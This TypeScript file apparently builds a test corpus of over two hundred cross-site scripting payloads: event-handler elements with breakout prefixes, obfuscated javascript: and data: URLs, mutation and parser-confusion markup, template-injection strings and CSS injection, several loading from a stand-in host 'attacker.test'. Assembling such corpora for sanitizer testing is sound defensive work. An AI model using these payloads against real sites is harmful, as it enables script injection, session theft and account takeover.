/** What attackers write into fields, by classes: each runs `attacked(…)` somewhere when it is taken for markup or code. */

const CALL = 'attacked(1)';

/** Elements that run a handler by themselves, or when they are looked at, closed or focused. */
const ELEMENTS = [
  ['img', 'src=x', 'onerror'],
  ['img', 'srcset=x', 'onerror'],
  ['svg', '', 'onload'],
  ['body', '', 'onload'],
  ['iframe', '', 'onload'],
  ['video', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['details', 'open', 'ontoggle'],
  ['input', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['select', 'autofocus', 'onfocus'],
  ['marquee', '', 'onstart'],
  ['object', 'data=x', 'onerror'],
  ['embed', 'src=x', 'onerror'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['style', '', 'onload'],
  ['script', 'src=x', 'onerror'],
  ['video', 'autoplay', 'onloadstart'],
  ['p', 'tabindex=0 style=animation-name:x', 'onanimationstart'],
  ['a', 'href=# autofocus tabindex=0', 'onfocus'],
] as const;

/** What an attacker puts before an element, to get out of where he stands. */
const WAYS_OUT = ['', '">', "'>", '</p>', '</textarea>', '</title></style></script>', '-->', ']]>', '`>'];

/** Addresses that run. */
const ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `&#106;avascript:${CALL}`,
  `javascript://%0a${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<script>parent.${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYXR0YWNrZWQoMSk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload=${CALL}>`,
  `blob:javascript:${CALL}`,
  `filesystem:javascript:${CALL}`,
  `//attacker.test/x.js`,
];

/** Where an address can stand so that it is followed. */
const PLACES = [
  (address: string) => address,
  (address: string) => `<a href="${address}">x</a>`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `[x](${address})`,
];

/** What parsers disagree about, and languages of templates. */
const OTHERS = [
  `<script>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<ScRiPt >${CALL}</sCrIpT >`,
  `<script/x>${CALL}</script>`,
  `<<script>${CALL}//<</script>`,
  `<svg><script>${CALL}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=${CALL} /></svg>#x">`,
  `<form><button formaction=javascript:${CALL}>x`,
  `<base href=//attacker.test/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${CALL}></template>`,
  `<img src=x onerror\u000b=${CALL}>`,
  `<img/src=x/onerror=${CALL}>`,
  `<img src=x onerror=&#97;ttacked(1)>`,
  `%3Cimg src=x onerror=${CALL}%3E`,
  `&lt;img src=x onerror=${CALL}&gt;`,
  `\u003cimg src=x onerror=${CALL}\u003e`,
  `\uff1cimg src=x onerror=${CALL}\uff1e`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `<%= ${CALL} %>`,
  `#{${CALL}}`,
  `';${CALL};//`,
  `";${CALL};//`,
  `\\";${CALL};//`,
  `</script><script>${CALL}</script>`,
  `__proto__`,
  `constructor`,
  `\u202e<img src=x onerror=${CALL}>\u202c`,
  `photo.png" onerror="${CALL}`,
  `x.svg\u0000.png`,
  `expression(${CALL})`,
  `url(javascript:${CALL})`,
  `@import'//attacker.test/x.css';`,
];

/** At least two hundred, each different from all others. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...WAYS_OUT.flatMap((out) =>
      ELEMENTS.map(([name, attributes, on]) => `${out}<${name} ${attributes} ${on}=${CALL}>`),
    ),
    ...PLACES.flatMap((place) => ADDRESSES.map(place)),
    ...OTHERS,
  ]),
];
